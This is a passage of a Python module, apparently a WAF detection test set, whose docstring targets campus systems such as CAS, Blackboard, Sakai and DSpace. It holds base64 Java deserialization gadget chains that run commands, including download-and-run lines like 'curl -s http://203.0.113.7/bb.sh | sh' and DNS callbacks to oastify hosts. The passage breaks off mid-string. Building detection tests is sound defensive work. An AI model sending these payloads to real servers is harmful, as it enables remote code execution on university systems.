"""Blind set "twohundredtwentysecond": Node.js, SSRF, prototype pollution, Ruby, Perl and PHP data: URIs, Java
(class names, process spawning, serialized objects and gadgets, Log4Shell, expression languages, polymorphic
JSON/XML, class loading, JSP uploads) and server-side template injection, aimed at the software of schools,
universities and research institutes, with benign requests that carry the same words innocently.

The angle: campus software, recalled from memory. Each payload is written the way it is sent at one system a
university runs: learning management systems (Moodle, Canvas, Blackboard Learn, Sakai, ILIAS, Chamilo, Open edX)
and their plugins, quiz and gradebook pages, student information systems (PeopleSoft Campus Solutions, Banner),
enrolment portals, library catalogues and discovery layers (Koha, Blacklight, VuFind, EZproxy), institutional
repositories (DSpace and its Solr, EPrints, Omeka, Hyrax), JupyterHub and Tornado notebook servers, HPC portals
(Open OnDemand, slurmrestd), plagiarism and proctoring callbacks, LTI launches, Apereo CAS and Shibboleth login
pages, journal and conference systems (OJS with Smarty, Liferay, Confluence, Jira), and the wikis and CMSes
campuses run (Drupal with Twig, Foswiki/TWiki, Jekyll, Hugo, Umbraco). Each group of payloads carries a comment
naming its family, the system and the target (interpreter, shell, cloud metadata service, internal service,
JVM library, template engine, browser). The Java serialized objects are real streams built for this set with the
JDK and commons-collections/commons-beanutils (URLDNS, CommonsCollections 1/6/7, CommonsBeanutils1, Jdk7u21),
carried raw, percent-encoded, hex and base64 (rO0AB); the translet and loader classes they carry run one command.

Families (one sub-family per detection title):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, java-deserialization-gadget, log4shell,
    expression-language, polymorphic-deserialization (XStream, XMLDecoder, Fastjson, Jackson, SnakeYAML),
    class-loading, jsp-upload
  ssti: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug, mako, tornado, nunjucks, ejs,
    pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path; whole JSON, XML and YAML documents as the body; JSP files as uploads), under the
parameter names the targeted system uses (url, returnurl, config_url, j_username, javax.faces.ViewState, template,
answer, ...), once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our
routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names
(foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Bracket pollution pairs and Spring/Struts class-loader pairs go
as raw `name=value` pairs; raw serialized bytes go percent-encoded in a query or form; multi-line payloads never go
into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, the
campus systems as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test
or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredtwentysecond"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
XB = ("xml", "rs-xml")
YB = ("yaml-body", "rs-yaml-body")
KVQ = ("query", "rs-query")
KVF = ("form", "rs-raw-body")
UP = ("multipart-filename", "rs-multipart-filename")


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SER: dict[str, str] = {
    "urldns_cas": (
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAB"
        "c3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7TAAE"
        "ZmlsZXEAfgADTAAEaG9zdHEAfgADTAAIcHJvdG9jb2xxAH4AA0wAA3JlZnEAfgADeHD//////////3QAH2Nhcy1leGVjdXRpb24uazdxMm0u"
        "b2FzdGlmeS5jb210AAEvcQB+AAV0AARodHRwcHh0ACdodHRwOi8vY2FzLWV4ZWN1dGlvbi5rN3EybS5vYXN0aWZ5LmNvbS94"
    ),
    "urldns_jsf": (
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAB"
        "c3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7TAAE"
        "ZmlsZXEAfgADTAAEaG9zdHEAfgADTAAIcHJvdG9jb2xxAH4AA0wAA3JlZnEAfgADeHD//////////3QAJnBlb3BsZXNvZnQtdmlld3N0YXRl"
        "Lms3cTJtLm9hc3RpZnkuY29tdAABL3EAfgAFdAAEaHR0cHB4dAAuaHR0cDovL3Blb3BsZXNvZnQtdmlld3N0YXRlLms3cTJtLm9hc3RpZnku"
        "Y29tL3g="
    ),
    "urldns_bb": (
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAB"
        "c3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7TAAE"
        "ZmlsZXEAfgADTAAEaG9zdHEAfgADTAAIcHJvdG9jb2xxAH4AA0wAA3JlZnEAfgADeHD//////////3QAGmJiLWxlYXJuLms3cTJtLm9hc3Rp"
        "ZnkuY29tdAABL3EAfgAFdAAEaHR0cHB4dAAiaHR0cDovL2JiLWxlYXJuLms3cTJtLm9hc3RpZnkuY29tL3g="
    ),
    "cc6_touch": (
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAB"
        "c3IANG9yZy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5rZXl2YWx1ZS5UaWVkTWFwRW50cnmKrdKbOcEf2wIAAkwAA2tleXQAEkxqYXZh"
        "L2xhbmcvT2JqZWN0O0wAA21hcHQAD0xqYXZhL3V0aWwvTWFwO3hwdAAFc2FrYWlzcgAqb3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25z"
        "Lm1hcC5MYXp5TWFwbuWUgp55EJQDAAFMAAdmYWN0b3J5dAAsTG9yZy9hcGFjaGUvY29tbW9ucy9jb2xsZWN0aW9ucy9UcmFuc2Zvcm1lcjt4"
        "cHNyADpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuQ2hhaW5lZFRyYW5zZm9ybWVyMMeX7Ch6lwQCAAFbAA1pVHJh"
        "bnNmb3JtZXJzdAAtW0xvcmcvYXBhY2hlL2NvbW1vbnMvY29sbGVjdGlvbnMvVHJhbnNmb3JtZXI7eHB1cgAtW0xvcmcuYXBhY2hlLmNvbW1v"
        "bnMuY29sbGVjdGlvbnMuVHJhbnNmb3JtZXI7vVYq8dg0GJkCAAB4cAAAAAVzcgA7b3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25zLmZ1"
        "bmN0b3JzLkNvbnN0YW50VHJhbnNmb3JtZXJYdpARQQKxlAIAAUwACWlDb25zdGFudHEAfgADeHB2cgARamF2YS5sYW5nLlJ1bnRpbWUAAAAA"
        "AAAAAAAAAHhwc3IAOm9yZy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5mdW5jdG9ycy5JbnZva2VyVHJhbnNmb3JtZXKH6P9re3zOOAMA"
        "A1sABWlBcmdzdAATW0xqYXZhL2xhbmcvT2JqZWN0O0wAC2lNZXRob2ROYW1ldAASTGphdmEvbGFuZy9TdHJpbmc7WwALaVBhcmFtVHlwZXN0"
        "ABJbTGphdmEvbGFuZy9DbGFzczt4cHVyABNbTGphdmEubGFuZy5PYmplY3Q7kM5YnxBzKWwCAAB4cAAAAAJ0AApnZXRSdW50aW1ldXIAEltM"
        "amF2YS5sYW5nLkNsYXNzO6sW167LzVqZAgAAeHAAAAAAdAAJZ2V0TWV0aG9kdXEAfgAbAAAAAnZyABBqYXZhLmxhbmcuU3RyaW5noPCkOHo7"
        "s0ICAAB4cHZxAH4AG3hzcQB+ABN1cQB+ABgAAAACcHVxAH4AGAAAAAB0AAZpbnZva2V1cQB+ABsAAAACdnIAEGphdmEubGFuZy5PYmplY3QA"
        "AAAAAAAAAAAAAHhwdnEAfgAYeHNxAH4AE3VxAH4AGAAAAAF0ABR0b3VjaCAvdG1wL3Nha2FpLWNjNnQABGV4ZWN1cQB+ABsAAAABcQB+ACB4"
        "c3EAfgAPc3IAEWphdmEubGFuZy5JbnRlZ2VyEuKgpPeBhzgCAAFJAAV2YWx1ZXhyABBqYXZhLmxhbmcuTnVtYmVyhqyVHQuU4IsCAAB4cAAA"
        "AAFzcQB+AAA/QAAAAAAADHcIAAAAEAAAAAB4eHQAAXh4"
    ),
    "cc6_nslookup": (
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAB"
        "c3IANG9yZy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5rZXl2YWx1ZS5UaWVkTWFwRW50cnmKrdKbOcEf2wIAAkwAA2tleXQAEkxqYXZh"
        "L2xhbmcvT2JqZWN0O0wAA21hcHQAD0xqYXZhL3V0aWwvTWFwO3hwdAAFc2FrYWlzcgAqb3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25z"
        "Lm1hcC5MYXp5TWFwbuWUgp55EJQDAAFMAAdmYWN0b3J5dAAsTG9yZy9hcGFjaGUvY29tbW9ucy9jb2xsZWN0aW9ucy9UcmFuc2Zvcm1lcjt4"
        "cHNyADpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuQ2hhaW5lZFRyYW5zZm9ybWVyMMeX7Ch6lwQCAAFbAA1pVHJh"
        "bnNmb3JtZXJzdAAtW0xvcmcvYXBhY2hlL2NvbW1vbnMvY29sbGVjdGlvbnMvVHJhbnNmb3JtZXI7eHB1cgAtW0xvcmcuYXBhY2hlLmNvbW1v"
        "bnMuY29sbGVjdGlvbnMuVHJhbnNmb3JtZXI7vVYq8dg0GJkCAAB4cAAAAAVzcgA7b3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25zLmZ1"
        "bmN0b3JzLkNvbnN0YW50VHJhbnNmb3JtZXJYdpARQQKxlAIAAUwACWlDb25zdGFudHEAfgADeHB2cgARamF2YS5sYW5nLlJ1bnRpbWUAAAAA"
        "AAAAAAAAAHhwc3IAOm9yZy5hcGFjaGUuY29tbW9ucy5jb2xsZWN0aW9ucy5mdW5jdG9ycy5JbnZva2VyVHJhbnNmb3JtZXKH6P9re3zOOAMA"
        "A1sABWlBcmdzdAATW0xqYXZhL2xhbmcvT2JqZWN0O0wAC2lNZXRob2ROYW1ldAASTGphdmEvbGFuZy9TdHJpbmc7WwALaVBhcmFtVHlwZXN0"
        "ABJbTGphdmEvbGFuZy9DbGFzczt4cHVyABNbTGphdmEubGFuZy5PYmplY3Q7kM5YnxBzKWwCAAB4cAAAAAJ0AApnZXRSdW50aW1ldXIAEltM"
        "amF2YS5sYW5nLkNsYXNzO6sW167LzVqZAgAAeHAAAAAAdAAJZ2V0TWV0aG9kdXEAfgAbAAAAAnZyABBqYXZhLmxhbmcuU3RyaW5noPCkOHo7"
        "s0ICAAB4cHZxAH4AG3hzcQB+ABN1cQB+ABgAAAACcHVxAH4AGAAAAAB0AAZpbnZva2V1cQB+ABsAAAACdnIAEGphdmEubGFuZy5PYmplY3QA"
        "AAAAAAAAAAAAAHhwdnEAfgAYeHNxAH4AE3VxAH4AGAAAAAF0ACVuc2xvb2t1cCBkc3BhY2UtY2M2Lms3cTJtLm9hc3RpZnkuY29tdAAEZXhl"
        "Y3VxAH4AGwAAAAFxAH4AIHhzcQB+AA9zcgARamF2YS5sYW5nLkludGVnZXIS4qCk94GHOAIAAUkABXZhbHVleHIAEGphdmEubGFuZy5OdW1i"
        "ZXKGrJUdC5TgiwIAAHhwAAAAAXNxAH4AAD9AAAAAAAAMdwgAAAAQAAAAAHh4dAABeHg="
    ),
    "cc7_curl": (
        "rO0ABXNyABNqYXZhLnV0aWwuSGFzaHRhYmxlE7sPJSFK5LgDAAJGAApsb2FkRmFjdG9ySQAJdGhyZXNob2xkeHA/QAAAAAAACHcIAAAACwAA"
        "AAFzcgAqb3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25zLm1hcC5MYXp5TWFwbuWUgp55EJQDAAFMAAdmYWN0b3J5dAAsTG9yZy9hcGFj"
        "aGUvY29tbW9ucy9jb2xsZWN0aW9ucy9UcmFuc2Zvcm1lcjt4cHNyADpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMu"
        "Q2hhaW5lZFRyYW5zZm9ybWVyMMeX7Ch6lwQCAAFbAA1pVHJhbnNmb3JtZXJzdAAtW0xvcmcvYXBhY2hlL2NvbW1vbnMvY29sbGVjdGlvbnMv"
        "VHJhbnNmb3JtZXI7eHB1cgAtW0xvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuVHJhbnNmb3JtZXI7vVYq8dg0GJkCAAB4cAAAAAVz"
        "cgA7b3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25zLmZ1bmN0b3JzLkNvbnN0YW50VHJhbnNmb3JtZXJYdpARQQKxlAIAAUwACWlDb25z"
        "dGFudHQAEkxqYXZhL2xhbmcvT2JqZWN0O3hwdnIAEWphdmEubGFuZy5SdW50aW1lAAAAAAAAAAAAAAB4cHNyADpvcmcuYXBhY2hlLmNvbW1v"
        "bnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVyh+j/a3t8zjgDAANbAAVpQXJnc3QAE1tMamF2YS9sYW5nL09iamVj"
        "dDtMAAtpTWV0aG9kTmFtZXQAEkxqYXZhL2xhbmcvU3RyaW5nO1sAC2lQYXJhbVR5cGVzdAASW0xqYXZhL2xhbmcvQ2xhc3M7eHB1cgATW0xq"
        "YXZhLmxhbmcuT2JqZWN0O5DOWJ8QcylsAgAAeHAAAAACdAAKZ2V0UnVudGltZXVyABJbTGphdmEubGFuZy5DbGFzczurFteuy81amQIAAHhw"
        "AAAAAHQACWdldE1ldGhvZHVxAH4AFwAAAAJ2cgAQamF2YS5sYW5nLlN0cmluZ6DwpDh6O7NCAgAAeHB2cQB+ABd4c3EAfgAPdXEAfgAUAAAA"
        "AnB1cQB+ABQAAAAAdAAGaW52b2tldXEAfgAXAAAAAnZyABBqYXZhLmxhbmcuT2JqZWN0AAAAAAAAAAAAAAB4cHZxAH4AFHhzcQB+AA91cQB+"
        "ABQAAAABdAAwY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvc2FrYWkuc2ggLW8gL3RtcC9zLnNodAAEZXhlY3VxAH4AFwAAAAFxAH4AHHhz"
        "cQB+AApzcgARamF2YS5sYW5nLkludGVnZXIS4qCk94GHOAIAAUkABXZhbHVleHIAEGphdmEubGFuZy5OdW1iZXKGrJUdC5TgiwIAAHhwAAAA"
        "AXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABdAAC"
        "eXlxAH4ALnh4c3EAfgAsAAAAAng="
    ),
    "cc1_wget": (
        "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVyVmFs"
        "dWVzdAAPTGphdmEvdXRpbC9NYXA7TAAEdHlwZXQAEUxqYXZhL2xhbmcvQ2xhc3M7eHBzcgAxb3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rp"
        "b25zLm1hcC5UcmFuc2Zvcm1lZE1hcGF3P+Bd8VpwAwACTAAOa2V5VHJhbnNmb3JtZXJ0ACxMb3JnL2FwYWNoZS9jb21tb25zL2NvbGxlY3Rp"
        "b25zL1RyYW5zZm9ybWVyO0wAEHZhbHVlVHJhbnNmb3JtZXJxAH4ABXhwcHNyADpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVu"
        "Y3RvcnMuQ2hhaW5lZFRyYW5zZm9ybWVyMMeX7Ch6lwQCAAFbAA1pVHJhbnNmb3JtZXJzdAAtW0xvcmcvYXBhY2hlL2NvbW1vbnMvY29sbGVj"
        "dGlvbnMvVHJhbnNmb3JtZXI7eHB1cgAtW0xvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuVHJhbnNmb3JtZXI7vVYq8dg0GJkCAAB4"
        "cAAAAAVzcgA7b3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25zLmZ1bmN0b3JzLkNvbnN0YW50VHJhbnNmb3JtZXJYdpARQQKxlAIAAUwA"
        "CWlDb25zdGFudHQAEkxqYXZhL2xhbmcvT2JqZWN0O3hwdnIAEWphdmEubGFuZy5SdW50aW1lAAAAAAAAAAAAAAB4cHNyADpvcmcuYXBhY2hl"
        "LmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVyh+j/a3t8zjgDAANbAAVpQXJnc3QAE1tMamF2YS9sYW5n"
        "L09iamVjdDtMAAtpTWV0aG9kTmFtZXQAEkxqYXZhL2xhbmcvU3RyaW5nO1sAC2lQYXJhbVR5cGVzdAASW0xqYXZhL2xhbmcvQ2xhc3M7eHB1"
        "cgATW0xqYXZhLmxhbmcuT2JqZWN0O5DOWJ8QcylsAgAAeHAAAAACdAAKZ2V0UnVudGltZXVyABJbTGphdmEubGFuZy5DbGFzczurFteuy81a"
        "mQIAAHhwAAAAAHQACWdldE1ldGhvZHVxAH4AGQAAAAJ2cgAQamF2YS5sYW5nLlN0cmluZ6DwpDh6O7NCAgAAeHB2cQB+ABl4c3EAfgARdXEA"
        "fgAWAAAAAnB1cQB+ABYAAAAAdAAGaW52b2tldXEAfgAZAAAAAnZyABBqYXZhLmxhbmcuT2JqZWN0AAAAAAAAAAAAAAB4cHZxAH4AFnhzcQB+"
        "ABF1cQB+ABYAAAABdAAud2dldCBodHRwOi8vMjAzLjAuMTEzLjcvZHNwYWNlLnNoIC1PIC90bXAvZC5zaHQABGV4ZWN1cQB+ABkAAAABcQB+"
        "AB54c3EAfgAMc3IAEWphdmEubGFuZy5JbnRlZ2VyEuKgpPeBhzgCAAFJAAV2YWx1ZXhyABBqYXZhLmxhbmcuTnVtYmVyhqyVHQuU4IsCAAB4"
        "cAAAAAFzcgARamF2YS51dGlsLkhhc2hNYXAFB9rBwxZg0QMAAkYACmxvYWRGYWN0b3JJAAl0aHJlc2hvbGR4cD9AAAAAAAAMdwgAAAAQAAAA"
        "AXQABXZhbHVldAAGZHNwYWNleHh2cgAeamF2YS5sYW5nLmFubm90YXRpb24uUmV0ZW50aW9uAAAAAAAAAAAAAAB4cA=="
    ),
    "cb1_grades": (
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBh"
        "cmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3LPjgGC/k7xfgIAAkwACmNvbXBhcmF0"
        "b3JxAH4AAUwACHByb3BlcnR5dAASTGphdmEvbGFuZy9TdHJpbmc7eHBzcgA/b3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25zLmNvbXBh"
        "cmF0b3JzLkNvbXBhcmFibGVDb21wYXJhdG9y+/SZJbhusTcCAAB4cHQAEG91dHB1dFByb3BlcnRpZXN3BAAAAANzcgA6Y29tLnN1bi5vcmcu"
        "YXBhY2hlLnhhbGFuLmludGVybmFsLnhzbHRjLnRyYXguVGVtcGxhdGVzSW1wbAlXT8FurKszAwAGSQANX2luZGVudE51bWJlckkADl90cmFu"
        "c2xldEluZGV4WwAKX2J5dGVjb2Rlc3QAA1tbQlsABl9jbGFzc3QAEltMamF2YS9sYW5nL0NsYXNzO0wABV9uYW1lcQB+AARMABFfb3V0cHV0"
        "UHJvcGVydGllc3QAFkxqYXZhL3V0aWwvUHJvcGVydGllczt4cAAAAAD/////dXIAA1tbQkv9GRVnZ9s3AgAAeHAAAAABdXIAAltCrPMX+AYI"
        "VOACAAB4cAAABDrK/rq+AAAAMwApCgACAAMHAAQMAAUABgEAQGNvbS9zdW4vb3JnL2FwYWNoZS94YWxhbi9pbnRlcm5hbC94c2x0Yy9ydW50"
        "aW1lL0Fic3RyYWN0VHJhbnNsZXQBAAY8aW5pdD4BAAMoKVYKAAgACQcACgwACwAMAQARamF2YS9sYW5nL1J1bnRpbWUBAApnZXRSdW50aW1l"
        "AQAVKClMamF2YS9sYW5nL1J1bnRpbWU7BwAOAQAQamF2YS9sYW5nL1N0cmluZwgAEAEABy9iaW4vc2gIABIBAAItYwgAFAEAJWN1cmwgLXMg"
        "aHR0cDovLzIwMy4wLjExMy43L2JiLnNoIHwgc2gKAAgAFgwAFwAYAQAEZXhlYwEAKChbTGphdmEvbGFuZy9TdHJpbmc7KUxqYXZhL2xhbmcv"
        "UHJvY2VzczsHABoBABNqYXZhL2xhbmcvRXhjZXB0aW9uBwAcAQAJR3JhZGVTeW5jAQAEQ29kZQEAD0xpbmVOdW1iZXJUYWJsZQEACXRyYW5z"
        "Zm9ybQEAcihMY29tL3N1bi9vcmcvYXBhY2hlL3hhbGFuL2ludGVybmFsL3hzbHRjL0RPTTtbTGNvbS9zdW4vb3JnL2FwYWNoZS94bWwvaW50"
        "ZXJuYWwvc2VyaWFsaXplci9TZXJpYWxpemF0aW9uSGFuZGxlcjspVgEACkV4Y2VwdGlvbnMHACMBADljb20vc3VuL29yZy9hcGFjaGUveGFs"
        "YW4vaW50ZXJuYWwveHNsdGMvVHJhbnNsZXRFeGNlcHRpb24BAKYoTGNvbS9zdW4vb3JnL2FwYWNoZS94YWxhbi9pbnRlcm5hbC94c2x0Yy9E"
        "T007TGNvbS9zdW4vb3JnL2FwYWNoZS94bWwvaW50ZXJuYWwvZHRtL0RUTUF4aXNJdGVyYXRvcjtMY29tL3N1bi9vcmcvYXBhY2hlL3htbC9p"
        "bnRlcm5hbC9zZXJpYWxpemVyL1NlcmlhbGl6YXRpb25IYW5kbGVyOylWAQAIPGNsaW5pdD4BAA1TdGFja01hcFRhYmxlAQAKU291cmNlRmls"
        "ZQEADkdyYWRlU3luYy5qYXZhACEAGwACAAAAAAAEAAEABQAGAAEAHQAAAB0AAQABAAAABSq3AAGxAAAAAQAeAAAABgABAAAABwABAB8AIAAC"
        "AB0AAAAZAAAAAwAAAAGxAAAAAQAeAAAABgABAAAADgAhAAAABAABACIAAQAfACQAAgAdAAAAGQAAAAQAAAABsQAAAAEAHgAAAAYAAQAAAA8A"
        "IQAAAAQAAQAiAAgAJQAGAAEAHQAAAFgABQABAAAAH7gABwa9AA1ZAxIPU1kEEhFTWQUSE1O2ABVXpwAES7EAAQAAABoAHQAZAAIAHgAAABIA"
        "BAAAAAoAGgAMAB0ACwAeAA0AJgAAAAcAAl0HABkAAAEAJwAAAAIAKHB0AAlHcmFkZVN5bmNwdwEAeHEAfgANeA=="
    ),
    "jdk7u21_cas": (
        "rO0ABXNyABdqYXZhLnV0aWwuTGlua2VkSGFzaFNldNhs11qV3SoeAgAAeHIAEWphdmEudXRpbC5IYXNoU2V0ukSFlZa4tzQDAAB4cHcMAAAA"
        "ED9AAAAAAAACc3IAOmNvbS5zdW4ub3JnLmFwYWNoZS54YWxhbi5pbnRlcm5hbC54c2x0Yy50cmF4LlRlbXBsYXRlc0ltcGwJV0/BbqyrMwMA"
        "BkkADV9pbmRlbnROdW1iZXJJAA5fdHJhbnNsZXRJbmRleFsACl9ieXRlY29kZXN0AANbW0JbAAZfY2xhc3N0ABJbTGphdmEvbGFuZy9DbGFz"
        "cztMAAVfbmFtZXQAEkxqYXZhL2xhbmcvU3RyaW5nO0wAEV9vdXRwdXRQcm9wZXJ0aWVzdAAWTGphdmEvdXRpbC9Qcm9wZXJ0aWVzO3hwAAAA"
        "AP////91cgADW1tCS/0ZFWdn2zcCAAB4cAAAAAF1cgACW0Ks8xf4BghU4AIAAHhwAAAEPcr+ur4AAAAzACkKAAIAAwcABAwABQAGAQBAY29t"
        "L3N1bi9vcmcvYXBhY2hlL3hhbGFuL2ludGVybmFsL3hzbHRjL3J1bnRpbWUvQWJzdHJhY3RUcmFuc2xldAEABjxpbml0PgEAAygpVgoACAAJ"
        "BwAKDAALAAwBABFqYXZhL2xhbmcvUnVudGltZQEACmdldFJ1bnRpbWUBABUoKUxqYXZhL2xhbmcvUnVudGltZTsHAA4BABBqYXZhL2xhbmcv"
        "U3RyaW5nCAAQAQAHL2Jpbi9zaAgAEgEAAi1jCAAUAQAod2dldCAtcU8tIGh0dHA6Ly8yMDMuMC4xMTMuNy9jYXMuc2ggfCBzaAoACAAWDAAX"
        "ABgBAARleGVjAQAoKFtMamF2YS9sYW5nL1N0cmluZzspTGphdmEvbGFuZy9Qcm9jZXNzOwcAGgEAE2phdmEvbGFuZy9FeGNlcHRpb24HABwB"
        "AAlDYXNUaWNrZXQBAARDb2RlAQAPTGluZU51bWJlclRhYmxlAQAJdHJhbnNmb3JtAQByKExjb20vc3VuL29yZy9hcGFjaGUveGFsYW4vaW50"
        "ZXJuYWwveHNsdGMvRE9NO1tMY29tL3N1bi9vcmcvYXBhY2hlL3htbC9pbnRlcm5hbC9zZXJpYWxpemVyL1NlcmlhbGl6YXRpb25IYW5kbGVy"
        "OylWAQAKRXhjZXB0aW9ucwcAIwEAOWNvbS9zdW4vb3JnL2FwYWNoZS94YWxhbi9pbnRlcm5hbC94c2x0Yy9UcmFuc2xldEV4Y2VwdGlvbgEA"
        "pihMY29tL3N1bi9vcmcvYXBhY2hlL3hhbGFuL2ludGVybmFsL3hzbHRjL0RPTTtMY29tL3N1bi9vcmcvYXBhY2hlL3htbC9pbnRlcm5hbC9k"
        "dG0vRFRNQXhpc0l0ZXJhdG9yO0xjb20vc3VuL29yZy9hcGFjaGUveG1sL2ludGVybmFsL3NlcmlhbGl6ZXIvU2VyaWFsaXphdGlvbkhhbmRs"
        "ZXI7KVYBAAg8Y2xpbml0PgEADVN0YWNrTWFwVGFibGUBAApTb3VyY2VGaWxlAQAOQ2FzVGlja2V0LmphdmEAIQAbAAIAAAAAAAQAAQAFAAYA"
        "AQAdAAAAHQABAAEAAAAFKrcAAbEAAAABAB4AAAAGAAEAAAAHAAEAHwAgAAIAHQAAABkAAAADAAAAAbEAAAABAB4AAAAGAAEAAAAOACEAAAAE"
        "AAEAIgABAB8AJAACAB0AAAAZAAAABAAAAAGxAAAAAQAeAAAABgABAAAADwAhAAAABAABACIACAAlAAYAAQAdAAAAWAAFAAEAAAAfuAAHBr0A"
        "DVkDEg9TWQQSEVNZBRITU7YAFVenAARLsQABAAAAGgAdABkAAgAeAAAAEgAEAAAACgAaAAwAHQALAB4ADQAmAAAABwACXQcAGQAAAQAnAAAA"
        "AgAocHQACUNhc1RpY2tldHB3AQB4c30AAAABAB1qYXZheC54bWwudHJhbnNmb3JtLlRlbXBsYXRlc3hyABdqYXZhLmxhbmcucmVmbGVjdC5Q"
        "cm94eeEn2iDMEEPLAgABTAABaHQAJUxqYXZhL2xhbmcvcmVmbGVjdC9JbnZvY2F0aW9uSGFuZGxlcjt4cHNyADJzdW4ucmVmbGVjdC5hbm5v"
        "dGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVyVmFsdWVzdAAPTGphdmEvdXRpbC9NYXA7TAAE"
        "dHlwZXQAEUxqYXZhL2xhbmcvQ2xhc3M7eHBzcgARamF2YS51dGlsLkhhc2hNYXAFB9rBwxZg0QMAAkYACmxvYWRGYWN0b3JJAAl0aHJlc2hv"
        "bGR4cD9AAAAAAAAMdwgAAAAQAAAAAXQACGY1YTVhNjA4cQB+AAh4dnIAHWphdmF4LnhtbC50cmFuc2Zvcm0uVGVtcGxhdGVzAAAAAAAAAAAA"
        "AAB4cHg="
    ),
}
TRANSLET_CLASS = (
    "yv66vgAAADMAKQoAAgADBwAEDAAFAAYBAEBjb20vc3VuL29yZy9hcGFjaGUveGFsYW4vaW50ZXJuYWwveHNsdGMvcnVudGltZS9BYnN0cmFj"
    "dFRyYW5zbGV0AQAGPGluaXQ+AQADKClWCgAIAAkHAAoMAAsADAEAEWphdmEvbGFuZy9SdW50aW1lAQAKZ2V0UnVudGltZQEAFSgpTGphdmEv"
    "bGFuZy9SdW50aW1lOwcADgEAEGphdmEvbGFuZy9TdHJpbmcIABABAAcvYmluL3NoCAASAQACLWMIABQBACVjdXJsIC1zIGh0dHA6Ly8yMDMu"
